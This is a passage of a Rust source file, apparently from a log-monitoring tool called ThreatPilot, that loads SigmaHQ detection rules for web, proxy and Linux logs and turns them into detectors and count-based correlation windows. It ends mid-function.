//! Sigma rules (SigmaHQ's format) as detectors, for the `webserver`,
//! `proxy`, `apache` and `nginx` log sources and Linux (`sshd`, `auth`,
//! `sudo`, `syslog`, `auditd`, …).
//!
//! Parsing and matching are rsigma's (`rsigma-parser`, `rsigma-eval`): a
//! maintained implementation of the specification (modifiers, conditions,
//! `1 of` / `all of`, keyword rules), not ours. What is ours is the fit:
//!
//! - **Fields.** Sigma's web taxonomy names (`cs-uri-query`, `c-useragent`,
//!   `sc-status`, …) are read from the ECS fields the parsers fill
//!   ([`sigma_field`]), and so are the audit log's keys (`type`, `exe`,
//!   an `execve`'s `a0`…); ECS names work as they are. Keyword rules are
//!   matched against the raw line (`event.original`). A rule that needs a
//!   field no event of ours carries (`cs-cookie`, a request body) is
//!   refused with that reason rather than loaded to never fire.
//! - **Routing.** Rules are grouped by family (web, Linux), and within it
//!   by what spares them work: verdicts memoised by the fields read, and a
//!   literal prefilter ([`prefilter`]) that says which rules an event's
//!   needles open, each then evaluated on its own; the few rules no
//!   literal gates run in one rsigma engine with its inverted index. A
//!   match is then checked against the rule's log source (`service: sshd`
//!   wants sshd's lines).
//! - **Findings.** Each rule is a [`Detector`] that fires on the first
//!   matching event, grouped by source address (web) or host (Linux), so a
//!   finding carries its rule's id, title, level (as severity), author and
//!   ATT&CK tags, and goes through the same cooldown, update and resolve
//!   cycle as every other finding. Correlation rules of type `event_count`
//!   and `value_count` become windows over the rules they name; a rule a
//!   correlation names only fires on its own with `generate: true`, as the
//!   specification says. Temporal correlations are refused (not yet
//!   supported), with that reason.

use std::borrow::Cow;
use std::collections::HashMap;
use std::path::Path;
use std::sync::Arc;

use rsigma_eval::CompiledRule;
use rsigma_eval::event::EventValue;
use rsigma_parser::{
    ConditionOperator, CorrelationCondition, CorrelationRule, CorrelationType, Level,
    SigmaCollection, SigmaRule,
};

use super::config::{AggregateKind, WindowKind};
use super::matcher::Matcher;
use super::{Detector, Logic, WindowLogic};
use crate::event::{Event, Field};
use crate::finding::{Domain, OffenderType, Severity};

mod prefilter;

/// Which events a rule family is evaluated on.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Family {
    /// Web server access and error logs, and proxies (`event.category: web`).
    Web,
    /// Linux system logs: sshd, PAM and auth, sudo, syslog, kernel.
    Linux,
}

/// Datasets of the Linux family (`journal`: a systemd journal record of a
/// program without a parser of its own, as `syslog` is for a syslog line).
const LINUX_DATASETS: &[&str] = &[
    "sshd", "auth", "sudo", "syslog", "kernel", "journal", "auditd",
];

impl Family {
    /// The family `ev` belongs to, if any.
    pub fn of(ev: &Event) -> Option<Family> {
        if ev.category == Some("web") {
            Some(Family::Web)
        } else if LINUX_DATASETS.contains(&ev.dataset.as_ref()) {
            Some(Family::Linux)
        } else {
            None
        }
    }
}

/// Which events of its family a rule's log source admits.
#[derive(Clone, Debug, PartialEq)]
pub enum Gate {
    Any,
    /// `event.dataset` is one of these.
    Datasets(Vec<&'static str>),
    /// `event.dataset` starts with this (`apache` for `apache.access`, `apache.error`).
    DatasetPrefix(&'static str),
    /// A forward proxy's log: `event.dataset` names a proxy (`squid.access`,
    /// `proxy`, set by the source's `dataset:`).
    Proxy,
    /// `process.name` is this (services with no parser of their own: cron, vsftpd, …).
    Process(String),
}

impl Gate {
    pub fn admits(&self, ev: &Event) -> bool {
        match self {
            Gate::Any => true,
            Gate::Datasets(d) => d.contains(&ev.dataset.as_ref()),
            Gate::DatasetPrefix(p) => ev.dataset.starts_with(p),
            Gate::Proxy => ev.dataset.starts_with("squid") || ev.dataset.contains("proxy"),
            Gate::Process(p) => ev.process_name() == Some(p.as_str()),
        }
    }
}

/// What a Sigma detector is: a rule evaluated by the family's engine, or a
/// correlation fed by the rules it names.
pub enum SigmaKind {
    Rule {
        /// The parsed rule, its `id` set to [`SigmaRef::key`].
        rule: Box<SigmaRule>,
        /// The rule compiled, once at load: every engine built from the
        /// detectors shares it rather than compiling the rule again.
        compiled: Arc<CompiledRule>,
        /// Whether the rule makes findings of its own (false when only a
        /// correlation uses it).
        generate: bool,
    },
    Correlation {
        /// Keys of the rules it counts.
        rules: Vec<String>,
    },
}

/// A detector's tie to its Sigma rule.
pub struct SigmaRef {
    pub family: Family,
    pub gate: Gate,
    /// The rule's id (or, without one, its title): how matches are named.
    pub key: String,
    pub kind: SigmaKind,
}

impl std::fmt::Debug for SigmaRef {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("SigmaRef")
            .field("family", &self.family)
            .field("key", &self.key)
            .finish_non_exhaustive()
    }
}

/// A rule that was not loaded, and why.
#[derive(Clone, Debug, PartialEq)]
pub struct Refused {
    pub path: String,
    pub title: String,
    pub reason: String,
}

/// What loading Sigma folders gave.
#[derive(Debug, Default)]
pub struct SigmaLoad {
    pub detectors: Vec<Detector>,
    /// Rules and correlations loaded.
    pub loaded: usize,
    pub refused: Vec<Refused>,
}

/// Where Sigma's field names are found in an event. `None`: a field no
/// event of ours carries.
pub fn sigma_field(name: &str) -> Option<Field> {
    let ecs = |n: &str| Field::Extra(n.to_owned());
    Some(match name {
        "cs-method" => Field::HttpMethod,
        // SigmaHQ's web rules write the whole request target under
        // cs-uri-query (`/cgi-bin/.%2e/…`, `/wp-admin/…?x=`): reading only
        // the part after `?` would blind most of them
        "cs-uri-query" | "cs-uri" | "c-uri" | "request" => Field::UrlOriginal,
        "cs-uri-stem" | "c-uri-stem" => Field::UrlPath,
        "c-uri-query" => Field::UrlQuery,
        "sc-status" => Field::HttpStatus,
        "cs-user-agent" | "c-useragent" => Field::UserAgent,
        "cs-host" | "r-dns" => ecs("url.domain"),
        "cs-referer" | "cs-referrer" => ecs("http.request.referrer"),
        "cs-username" | "USER" | "User" => Field::UserName,
        "c-ip" | "src_ip" | "ClientIP" => Field::SourceIp,
        "dst_ip" => ecs("destination.ip"),
        "sc-bytes" => Field::HttpBodyBytes,
        "c-uri-extension" => ecs("url.extension"),
        n if n.contains('.') || n == "message" => Field::resolve(n).ok()?,
        // the audit log's keys (`service: auditd` rules), where the audit
        // parser put them: ECS fields for those it names, labels by their
        // audit names for the rest
        "exe" => ecs("process.executable"),
        "comm" => Field::ProcessName,
        "key" => ecs("rule.name"),
        "pid" => Field::ProcessPid,
        "ppid" => ecs("process.parent.pid"),
        "auid" => ecs("user.id"),
        "acct" => Field::UserName,
        "addr" => Field::SourceIp,
        "proctitle" => ecs("process.command_line"),
        n if is_audit_label(n) => Field::Label(n.to_owned()),
        _ => return None,
    })
}

/// Audit keys the parser keeps as labels by their own names (an
/// `execve`'s arguments `a0`, `a1`, … among them), and the record `type`.
fn is_audit_label(name: &str) -> bool {
    let arg =
        name.len() > 1 && name.starts_with('a') && name[1..].bytes().all(|c| c.is_ascii_digit());
    arg || matches!(
        name,
        "type"
            | "name"
            | "nametype"
            | "syscall"
            | "uid"
            | "euid"
            | "gid"
            | "egid"
            | "cwd"
            | "terminal"
            | "op"
            | "res"
            | "success"
            | "tty"
            | "arch"
            | "exit"
            | "argc"
            | "mode"
            | "ouid"
            | "inode"
            | "obj"
            | "subj"
            | "saddr"
            | "sig"
    )
}

/// An event as rsigma sees it: fields by Sigma or ECS name, keywords
/// against the raw line.
pub struct SigmaEvent<'a>(pub &'a Event);

impl SigmaEvent<'_> {
    fn extension(&self) -> Option<&str> {
        let path = self.0.url_path()?;
        let last = path.rsplit('/').next()?;
        last.rsplit_once('.').map(|(_, ext)| ext)
    }
}

impl rsigma_eval::Event for SigmaEvent<'_> {
    fn get_field(&self, path: &str) -> Option<EventValue<'_>> {
        let ev = self.0;
        let field = match path {
            "c-uri-extension" | "url.extension" => {
                return self.extension().map(|v| EventValue::Str(Cow::Borrowed(v)));
            }
            "cs-method" | "http.request.method" => Field::HttpMethod,
            "cs-uri-query" | "cs-uri" | "c-uri" | "url.original" => Field::UrlOriginal,
            "cs-user-agent" | "c-useragent" | "user_agent.original" => Field::UserAgent,
            "sc-status" | "http.response.status_code" => Field::HttpStatus,
            other => sigma_field(other)?,
        };
        if let Some(v) = ev.get_text(&field) {
            return Some(EventValue::Str(Cow::Borrowed(v)));
        }
        match field {
            Field::TemplateId => {
                let mut buf = String::new();
                ev.get(&field, &mut buf)
                    .map(|v| EventValue::Str(Cow::Owned(v.to_owned())))
            }
            f => ev.get_number(&f).map(|n| EventValue::Int(n as i64)),
        }
    }

    fn any_string_value(&self, pred: &dyn Fn(&str) -> bool) -> bool {
        pred(&self.0.original)
    }

    fn all_string_values(&self) -> Vec<Cow<'_, str>> {
        vec![Cow::Borrowed(self.0.original.as_str())]
    }

    fn visit_string_values(&self, visit: &mut dyn FnMut(&str)) {
        visit(&self.0.original)
    }

    fn to_json(&self) -> serde_json::Value {
        serde_json::json!({ "event.original": self.0.original })
    }
}

/// Loads every Sigma file under `dirs`. Rules that cannot be used are
/// listed in [`SigmaLoad::refused`] with the reason; the rest load.
pub fn load_dirs(dirs: &[String]) -> std::io::Result<SigmaLoad> {
    let mut docs = Vec::new();
    let mut out = SigmaLoad::default();
    for dir in dirs {
        for p in super::detector_files(Path::new(dir))? {
            let text = std::fs::read_to_string(&p)?;
            parse(&text, &p.display().to_string(), &mut docs, &mut out.refused);
        }
    }
    build(docs, &mut out);
    Ok(out)
}

/// Parses Sigma rules from one text (tests, single files).
pub fn load_str(text: &str, path: &str) -> SigmaLoad {
    let (mut docs, mut out) = (Vec::new(), SigmaLoad::default());
    parse(text, path, &mut docs, &mut out.refused);
    build(docs, &mut out);
    out
}

/// One file's rules into `docs`; what cannot be parsed into `refused`.
fn parse(
    text: &str,
    path: &str,
    docs: &mut Vec<(String, SigmaCollection)>,
    refused: &mut Vec<Refused>,
) {
    let cannot = |e: &dyn std::fmt::Display| Refused {
        path: path.to_owned(),
        title: String::new(),
        reason: format!("cannot parse: {e}"),
    };
    match rsigma_parser::parse_sigma_yaml(text) {
        Ok(c) => {
            refused.extend(c.errors.iter().map(|e| cannot(e)));
            docs.push((path.to_owned(), c));
        }
        Err(e) => refused.push(cannot(&e)),
    }
}

/// A rule accepted so far, before correlations decide whether it generates.
struct Accepted {
    path: String,
    /// Its `id` set to `key`.
    rule: SigmaRule,
    compiled: CompiledRule,
    family: Family,
    gate: Gate,
    key: String,
}

fn build(docs: Vec<(String, SigmaCollection)>, out: &mut SigmaLoad) {
    let mut rules: Vec<Accepted> = Vec::new();
    let mut correlations: Vec<(String, CorrelationRule)> = Vec::new();
    let mut seen = std::collections::HashSet::new();
    for (path, c) in docs {
        for f in &c.filters {
            out.refused.push(Refused {
                path: path.clone(),
                title: f.title.clone(),
                reason: "filter rules are not supported".into(),
            });
        }
        for mut rule in c.rules {
            let title = rule.title.clone();
            let refuse = |reason: String| Refused {
                path: path.clone(),
                title: title.clone(),
                reason,
            };
            let Some((family, gate)) = route(&rule) else {
                out.refused.push(refuse(format!(
                    "log source {} is not read (webserver, proxy, apache, nginx, linux)",
                    describe(&rule.logsource)
                )));
                continue;
            };
            if let Some(f) = unknown_field(&rule) {
                out.refused.push(refuse(format!(
                    "field `{f}` is not in ThreatPilot's events"
                )));
                continue;
            }
            let key = rule.id.clone().unwrap_or_else(|| rule.title.clone());
            // matches are reported by id: a rule without one goes by its title
            rule.id = Some(key.clone());
            let compiled = match rsigma_eval::compile_rule(&rule) {
                Ok(c) => c,
                Err(e) => {
                    out.refused.push(refuse(format!("cannot compile: {e}")));
                    continue;
                }
            };
            if !seen.insert(key.clone()) {
                out.refused
                    .push(refuse(format!("duplicate rule id `{key}`")));
                continue;
            }
            rules.push(Accepted {
                path: path.clone(),
                rule,
                compiled,
                family,
                gate,
                key,
            });
        }
        correlations.extend(c.correlations.into_iter().map(|r| (path.clone(), r)));
    }
    // a correlation names rules by id or by name
    let by_ref: HashMap<&str, usize> = rules
        .iter()
        .enumerate()
        .flat_map(|(i, a)| {
            [Some(a.key.as_str()), a.rule.name.as_deref()]
                .into_iter()
                .flatten()
                .map(move |n| (n, i))
        })
        .collect();
    let mut quiet = vec![false; rules.len()];
    let mut corr_dets = Vec::new();
    for (path, c) in &correlations {
        match correlation(c, path, &rules, &by_ref) {
            Ok((det, named)) => {
                for i in named {
                    quiet[i] |= !c.generate;
                }
                corr_dets.push(det);
                out.loaded += 1;
            }
            Err(reason) => out.refused.push(Refused {
                path: path.clone(),
                title: c.title.clone(),
                reason,
            }),
        }
    }
    for (a, quiet) in rules.into_iter().zip(quiet) {
        out.detectors.push(rule_detector(a, !quiet));
        out.loaded += 1;
    }
    out.detectors.extend(corr_dets);
}

/// The family and gate of a rule's log source; None where no event of
/// ours could match it.
fn route(rule: &SigmaRule) -> Option<(Family, Gate)> {
    let ls = &rule.logsource;
    let (cat, product, service) = (
        ls.category.as_deref(),
        ls.product.as_deref(),
        ls.service.as_deref(),
    );
    match (cat, product, service) {
        (Some("webserver"), _, _) => Some((Family::Web, Gate::Any)),
        // a proxy's log tells of clients inside going out: its rules (a
        // crawler's user agent, a download from a rare TLD) mean nothing
        // on a web server's own access log
        (Some("proxy"), _, _) => Some((Family::Web, Gate::Proxy)),
        (None, _, Some("apache")) => Some((Family::Web, Gate::DatasetPrefix("apache"))),
        (None, _, Some("nginx")) => Some((Family::Web, Gate::DatasetPrefix("nginx"))),
        (None, Some("linux"), None) => Some((Family::Linux, Gate::Any)),
        (None, Some("linux"), Some("sshd")) => Some((Family::Linux, Gate::Datasets(vec!["sshd"]))),
        (None, Some("linux"), Some("sudo")) => Some((Family::Linux, Gate::Datasets(vec!["sudo"]))),
        (None, Some("linux"), Some("auth")) => {
            Some((Family::Linux, Gate::Datasets(vec!["sshd", "auth", "sudo"])))
        }
        (None, Some("linux"), Some("syslog")) => Some((Family::Linux, Gate::Any)),
        (None, Some("linux"), Some("auditd")) => {
            Some((Family::Linux, Gate::Datasets(vec!["auditd"])))
        }
        (None, Some("linux"), Some(other)) => {
            Some((Family::Linux, Gate::Process(other.to_owned())))
        }
        _ => None,
    }
}

fn describe(ls: &rsigma_parser::LogSource) -> String {
    let parts: Vec<String> = [
        ("category", &ls.category),
        ("product", &ls.product),
        ("service", &ls.service),
    ]
    .iter()
    .filter_map(|(k, v)| v.as_ref().map(|v| format!("{k}: {v}")))
    .collect();
    if parts.is_empty() {
        "(none)".into()
    } else {
        format!("{{{}}}", parts.join(", "))
    }
}

/// The first field the rule's detection names that no event of ours has.
fn unknown_field(rule: &SigmaRule) -> Option<String> {
    let single = SigmaCollection {
        rules: vec![rule.clone()],
        ..SigmaCollection::new()
    };
    let fields = rsigma_eval::RuleFieldSet::collect(&single, &[], false);
    fields
        .iter()
        .filter(|(_, o)| o.sources.contains(&rsigma_eval::FieldSource::Detection))
        .map(|(name, _)| name)
        .find(|name| sigma_field(name).is_none())
        .map(str::to_owned)
}

fn severity(level: Option<Level>) -> (Severity, f64) {
    match level {
        Some(Level::Critical) => (Severity::Critical, 0.9),
        Some(Level::High) => (Severity::High, 0.8),
        Some(Level::Medium) | None => (Severity::Medium, 0.6),
        Some(Level::Low) => (Severity::Low, 0.4),
        Some(Level::Informational) => (Severity::Low, 0.2),
    }
}

fn level_name(level: Option<Level>) -> &'static str {
    match level {
        Some(Level::Critical) => "critical",
        Some(Level::High) => "high",
        Some(Level::Medium) => "medium",
        Some(Level::Low) => "low",
        Some(Level::Informational) => "informational",
        None => "unset",
    }
}

/// ATT&CK technique ids from Sigma tags (`attack.t1190` → `T1190`).
fn techniques(tags: &[String]) -> Vec<String> {
    tags.iter()
        .filter_map(|t| t.strip_prefix("attack.t"))
        .filter(|t| t.starts_with(|c: char| c.is_ascii_digit()))
        .map(|t| format!("T{}", t.to_ascii_uppercase()))
        .collect()
}

fn domain_of(family: Family, gate: &Gate) -> Domain {
    match (family, gate) {
        (Family::Web, _) => Domain::Http,
        // what programs did on a host, not who logged in
        (Family::Linux, Gate::Datasets(d)) if d == &["auditd"] => Domain::Infrastructure,
        (Family::Linux, Gate::Datasets(_)) => Domain::Identity,
        (Family::Linux, _) => Domain::Infrastructure,
    }
}

/// The window a Sigma detector counts in.
struct Shape {
    size_ms: i64,
    aggregate: AggregateKind,
    field: Option<Field>,
    threshold: f64,
}

/// What a Sigma rule or correlation says of itself.
struct Meta<'a> {
    key: String,
    title: &'a str,
    level: Option<Level>,
    tags: &'a [String],
    author: Option<&'a str>,
}

/// A Sigma detector: its rule's metadata over a sliding window.
fn shell(
    meta: Meta<'_>,
    family: Family,
    gate: Gate,
    shape: Shape,
    path: String,
    kind: SigmaKind,
) -> Detector {
    let domain = domain_of(family, &gate);
    let level = meta.level;
    let logic = WindowLogic {
        kind: WindowKind::Sliding,
        size_ms: shape.size_ms,
        leak_ms: 0.0,
        aggregate: shape.aggregate,
        field: shape.field,
        numerator: None,
        min_events: 1,
        min_gap_ms: 0,
        threshold: shape.threshold,
    };
    let (severity, confidence) = severity(level);
    let (group, offender_kind, offender_default, context, targets) = match family {
        Family::Web => (
            Field::SourceIp,
            OffenderType::Ip,
            None,
            vec![
                ("host".to_owned(), Field::HostName),
                ("url.domain".to_owned(), Field::Extra("url.domain".into())),
            ],
            Some(Field::UrlOriginal),
        ),
        Family::Linux => (
            Field::HostName,
            OffenderType::Host,
            Some("unknown-host".to_owned()),
            vec![
                ("source.ip".to_owned(), Field::SourceIp),
                ("user".to_owned(), Field::UserName),
            ],
            Some(Field::UserName),
        ),
    };
    let recommended = match (family, severity) {
        (Family::Web, Severity::High | Severity::Critical) => vec!["block_ip:{offender}".into()],
        _ => Vec::new(),
    };
    Detector {
        id: format!("{}.sigma.{}", domain.as_str(), meta.key),
        revision: 1,
        title: meta.title.to_owned(),
        domain,
        classification: "sigma".into(),
        severity,
        confidence,
        attack: techniques(meta.tags),
        matcher: Matcher::default(),
        resolve_when: None,
        logic: Logic::Window(logic),
        group_by: vec![group.clone()],
        offender_kind,
        offender_field: group,
        offender_default,
        context,
        labels: labels(&meta.key, level, meta.author),
        targets_field: targets,
        recommended_actions: recommended,
        evidence_max: 10,
        cooldown_ms: 60_000,
        resolve_after_ms: 600_000,
        path,
        sigma: Some(Arc::new(SigmaRef {
            family,
            gate,
            key: meta.key,
            kind,
        })),
    }
}

fn labels(key: &str, level: Option<Level>, author: Option<&str>) -> Vec<(String, String)> {
    let mut l = vec![
        ("sigma.id".to_owned(), key.to_owned()),
        ("sigma.level".to_owned(), level_name(level).to_owned()),
    ];
    if let Some(a) = author {
        l.push(("sigma.author".to_owned(), a.to_owned()));
    }
    l
}

fn rule_detector(a: Accepted, generate: bool) -> Detector {
    let Accepted {
        path,
        rule,
        compiled,
        family,
        gate,
        key,
    } = a;
    let title = rule.title.clone();
    let tags = rule.tags.clone();
    let author = rule.author.clone();
    let level = rule.level;
    shell(
        Meta {
            key,
            title: &title,
            level,
            tags: &tags,
            author: author.as_deref(),
        },
        family,
        gate,
        Shape {
            size_ms: 60_000,
            aggregate: AggregateKind::Count,
            field: None,
            threshold: 1.0,
        },
        path,
        SigmaKind::Rule {
            rule: Box::new(rule),
            compiled: Arc::new(compiled),
            generate,
        },
    )
}

/// A correlation as a window over the rules it names, with the rules it
/// names (indices into `rules`).
fn correlation(
    c: &CorrelationRule,
    path: &str,
    rules: &[Accepted],
    by_ref: &HashMap<&str, usize>,
) -> Result<(Detector, Vec<usize>), String> {
    let aggregate = match c.correlation_type {
        CorrelationType::EventCount => AggregateKind::Count,
        CorrelationType::ValueCount => AggregateKind::DistinctCount,
        other => {
            return Err(format!(
                "correlation type {} is not supported (event_count, value_count)",
                other.as_str()
            ));
        }
    };
    let named: Vec<usize> = c
        .rules
        .iter()
        .map(|r| {
            by_ref
                .get(r.as_str())
                .copied()
                .ok_or_else(|| format!("names rule `{r}`, which is not loaded"))
        })
        .collect::<Result<_, _>>()?;
    let family = rules[named[0]].family;
    if named.iter().any(|&i| rules[i].family != family) {
        return Err("names rules of different log sources".into());
    }
    let CorrelationCondition::Threshold {
        predicates, field, ..
    } = &c.condition
    else {
        return Err("a count correlation needs a threshold condition".into());
    };
    let threshold = match predicates.as_slice() {
        [(ConditionOperator::Gte, n)] => *n as f64,
        [(ConditionOperator::Gt, n)] => *n as f64 + 1.0,
        _ => return Err("only a `gte` or `gt` threshold is supported".into()),
    };
    let agg_field = match (aggregate, field.as_deref()) {
        (AggregateKind::DistinctCount, Some([f])) => Some(
            sigma_field(f).ok_or_else(|| format!("field `{f}` is not in ThreatPilot's events"))?,
        ),
        (AggregateKind::DistinctCount, _) => {
            return Err("value_count needs exactly one field".into());
        }
        _ => None,
    };
    let group_by = c
        .group_by
        .iter()
        .map(|g| {
            sigma_field(g)
                .ok_or_else(|| format!("group-by field `{g}` is not in ThreatPilot's events"))
        })
        .collect::<Result<Vec<_>, _>>()?;
    if c.timespan.seconds == 0 {
        return Err("timespan must be longer than 0".into());
    }
    let key =
        c.id.clone()
            .or(c.name.clone())
            .unwrap_or_else(|| c.title.clone());
    let mut det = shell(
        Meta {
            key,
            title: &c.title,
            level: c.level,
            tags: &c.tags,
            author: c.author.as_deref(),
        },
        family,
        rules[named[0]].gate.clone(),
        Shape {
            size_ms: c.timespan.seconds as i64 * 1000,
            aggregate,
            field: agg_field,
            threshold,
        },
        path.to_owned(),
        SigmaKind::Correlation {
            rules: named.iter().map(|&i| rules[i].key.clone()).collect(),
        },
    );
    if !group_by.is_empty() {
        det.group_by = group_by;
    }
    Ok((det, named))
}

/// The families' rsigma engines, and which detectors each rule feeds.
///
/// Each family's rules are split into two parts: memoised or not. Rules
/// that read only fields (method, URL, status, user
/// agent, …) give a verdict that is a function of those values, and real
/// traffic repeats them heavily (a few thousand URLs and a few hundred
/// user agents in ten thousand requests): their matches are memoised by
/// the values, so a repeated request costs one hash and one compare,
/// however many of those rules there are. Rules that read the raw line
/// (keywords) cannot be memoised. Within a part, rules that need a literal
/// somewhere (nearly all) sit behind one automaton per place of those
/// literals ([`prefilter`]): a line, or a missed memo's fields, holding
/// none costs one scan. The few left are evaluated every time (on every
/// miss, where memoised).
#[derive(Default)]
pub struct SigmaSet {
    families: Vec<(Family, Vec<Part>)>,
}

/// The rules of a family that share a memo (or that none can have), in
/// rsigma engines, and per rule its gate and the detectors a match feeds
/// (its own when it generates, and every correlation naming it).
struct Part {
    /// Rules behind the prefilter: evaluated on an event holding a literal.
    gated: Option<Gated>,
    /// Rules no literal gates: evaluated on every event (every miss).
    always: Option<rsigma_eval::Engine>,
    feeds: Vec<(Gate, Vec<u32>)>,
    /// Rule key (the id rsigma reports) → position in `feeds`.
    position: HashMap<String, u16>,
    /// The fields the part's rules read: the memo's key (memoised parts only).
    reads: Vec<Field>,
    /// The rules that matched recent keys (memoised parts only).
    memo: Option<VerdictMemo>,
    /// Scratch: the current event's key, and a number rendered for it.
    key: Vec<u8>,
    buf: String,
}

/// Rules behind the prefilter: each is evaluated on an event holding one
/// of its needles.
struct Gated {
    /// Each rule, with its position in the part's `feeds`.
    rules: Vec<(CompiledRule, u16)>,
    prefilter: prefilter::Prefilter,
    /// Scratch: the rules an event's needles open.
    candidates: Vec<u32>,
}

/// Positions of the rules that matched, by key. Longer keys (URLs with
/// payloads) are evaluated, not remembered.
type VerdictMemo = crate::memo::Memo<Vec<u16>, 4096, MEMO_MAX_KEY>;
const MEMO_MAX_KEY: usize = 1024;

/// A loaded rule: as parsed, and compiled.
type Loaded<'a> = (&'a SigmaRule, &'a CompiledRule);

/// Whether a Sigma field name is the line itself (or its message).
fn is_raw_field(name: &str) -> bool {
    matches!(sigma_field(name), Some(Field::Original | Field::Message))
}

/// Whether a rule reads the raw line: a keyword detection, or a field
/// that is the line or its message.
fn reads_raw(rule: &SigmaRule) -> bool {
    fn walk(d: &rsigma_parser::Detection) -> bool {
        use rsigma_parser::Detection as D;
        match d {
            D::Keywords(_) => true,
            D::AllOf(items) => items.iter().any(|i| match i.field.name.as_deref() {
                None => true,
                Some(n) => is_raw_field(n),
            }),
            D::AnyOf(subs) => subs.iter().any(walk),
            D::ArrayMatch { body, .. } => walk(body),
            #[allow(unreachable_patterns)]
            _ => true,
        }
    }
    rule.detection.named.values().any(walk)
}

/// The fields a rule's detection reads, as ours (`c-uri-extension` is read
/// from the path).
fn fields_read(rule: &SigmaRule, into: &mut Vec<Field>) {
    let single = SigmaCollection {
        rules: vec![rule.clone()],
        ..SigmaCollection::new()
    };
    for (name, origin) in rsigma_eval::RuleFieldSet::collect(&single, &[], false).iter() {
        if !origin
            .sources
            .contains(&rsigma_eval::FieldSource::Detection)
        {
            continue;
        }
        let f = match name {
            "c-uri-extension" | "url.extension" => Some(Field::UrlPath),
            n => sigma_field(n),
        };
        if let Some(f) = f
            && !into.contains(&f)
        {
            into.push(f);
        }
    }
}

/// An rsigma engine over `rules` (each compiled once already, at load).
fn engine_of<'a>(rules: impl Iterator<Item = &'a CompiledRule>) -> rsigma_eval::Engine {
    let mut engine = rsigma_eval::Engine::new();
    engine.extend_compiled_rules(rules.cloned());
    engine
}

impl Part {
    /// A part over `rules`, memoised by the fields they read when `memo`
    /// (they must read no line), those needing a literal behind a
    /// prefilter when `prefilter`.
    fn new(rules: &[(Loaded, Gate, Vec<u32>)], memo: bool, prefilter: bool) -> Part {
        let mut reads = Vec::new();
        if memo {
            rules.iter().for_each(|r| fields_read(r.0.0, &mut reads));
            // url.path and url.query are cut from url.original: with it
            // in the key they tell the memo nothing more
            if reads.contains(&Field::UrlOriginal) {
                reads.retain(|f| !matches!(f, Field::UrlPath | Field::UrlQuery));
            }
        }
        let (mut gated, mut always, mut needles) = (Vec::new(), Vec::new(), Vec::new());
        for (i, r) in rules.iter().map(|r| r.0.1).enumerate() {
            match prefilter
                .then(|| prefilter::needles(r, &is_raw_field))
                .flatten()
            {
                Some(n) => {
                    needles.push(n);
                    gated.push((r, i as u16));
                }
                None => always.push(r),
            }
        }
        let (gated, always) = match prefilter::Prefilter::new(&needles) {
            Some(prefilter) if !gated.is_empty() => (
                Some(Gated {
                    rules: gated.into_iter().map(|(r, p)| (r.clone(), p)).collect(),
                    prefilter,
                    candidates: Vec::new(),
                }),
                always,
            ),
            // no literal set could be built: every rule runs
            _ => (None, rules.iter().map(|r| r.0.1).collect()),
        };
        Part {
            gated,
            always: (!always.is_empty()).then(|| engine_of(always.into_iter())),
            position: rules
                .iter()
                .enumerate()
                .filter_map(|(i, r)| Some((r.0.0.id.clone()?, i as u16)))
                .collect(),
            feeds: rules.iter().map(|r| (r.1.clone(), r.2.clone())).collect(),
            reads,
            memo: memo.then(VerdictMemo::default),
            key: Vec::new(),
            buf: String::new(),
        }
    }

    /// Positions of the rules that match `ev`, into `hits`.
    fn evaluate(&mut self, ev: &Event, hits: &mut Vec<u16>) {
        hits.clear();
        let memo = self.memo.is_some() && self.fill_key(ev);
        // a key too long to remember is not hashed either
        let hash = if memo {
            xxhash_rust::xxh3::xxh3_64(&self.key)
        } else {
            0
        };
        if memo && let Some(known) = self.memo.as_ref().and_then(|m| m.get(hash, &self.key)) {
            hits.extend_from_slice(known);
            return;
        }
        if let Some(g) = &mut self.gated
            && g.prefilter.scan(ev)
        {
            g.prefilter.candidates(&mut g.candidates);
            for &c in &g.candidates {
                if let Some((rule, position)) = g.rules.get(c as usize)
                    && rsigma_eval::evaluate_rule(rule, &SigmaEvent(ev)).is_some()
                {
                    hits.push(*position);
                }
            }
        }
        if let Some(engine) = &self.always {
            for r in engine.evaluate(&SigmaEvent(ev)) {
                let key = r.header.rule_id.as_deref().unwrap_or(&r.header.rule_title);
                if let Some(&p) = self.position.get(key) {
                    hits.push(p);
                }
            }
        }
        if memo && let Some(known) = self.memo.as_mut().and_then(|m| m.put(hash, &self.key)) {
            known.clear();
            known.extend_from_slice(hits);
        }
    }

    /// The values the rules read, joined; false when too long to remember.
    fn fill_key(&mut self, ev: &Event) -> bool {
        self.key.clear();
        for f in &self.reads {
            match ev.get(f, &mut self.buf) {
                Some(v) => {
                    self.key.extend_from_slice(v.as_bytes());
                    self.key.push(0x1f);
                }
                None => self.key.push(0x1e),
            }
            if self.key.len() > MEMO_MAX_KEY {
                return false;
            }
        }
        true
    }
}

impl SigmaSet {
    /// Builds the engines from the Sigma detectors among `detectors`.
    pub fn build(detectors: &[Detector]) -> SigmaSet {
        // per family and whether memoised: rule, gate, detectors fed
        type Rules<'a> = Vec<(Loaded<'a>, Gate, Vec<u32>)>;
        let mut parts: HashMap<(Family, bool), Rules> = HashMap::new();
        let mut correlations: Vec<(Family, &str, u32)> = Vec::new();
        for (i, d) in detectors.iter().enumerate() {
            let Some(s) = &d.sigma else { continue };
            match &s.kind {
                SigmaKind::Rule {
                    rule,
                    compiled,
                    generate,
                } => {
                    let feeds = if *generate {
                        vec![i as u32]
                    } else {
                        Vec::new()
                    };
                    let loaded: Loaded = (rule, compiled);
                    parts
                        .entry((s.family, !reads_raw(rule)))
                        .or_default()
                        .push((loaded, s.gate.clone(), feeds));
                }
                SigmaKind::Correlation { rules } => {
                    correlations.extend(rules.iter().map(|r| (s.family, r.as_str(), i as u32)));
                }
            }
        }
        for (family, key, det) in correlations {
            for memo in [true, false] {
                if let Some(rules) = parts.get_mut(&(family, memo)) {
                    rules
                        .iter_mut()
                        .filter(|r| r.0.0.id.as_deref() == Some(key))
                        .for_each(|r| r.2.push(det));
                }
            }
        }
        let mut set = SigmaSet::default();
        for family in [Family::Web, Family::Linux] {
            let fs: Vec<Part> = [true, false]
                .into_iter()
                .filter_map(|memo| Some(Part::new(parts.get(&(family, memo))?, memo, true)))
                .collect();
            if !fs.is_empty() {
                set.families.push((family, fs));
            }
        }
        set
    }

    pub fn is_empty(&self) -> bool {
        self.families.is_empty()
    }

    /// The detectors `ev`'s matching rules feed, into `out`; `hits` is scratch.
    pub fn matches(&mut self, ev: &Event, hits: &mut Vec<u16>, out: &mut Vec<u32>) {
        out.clear();
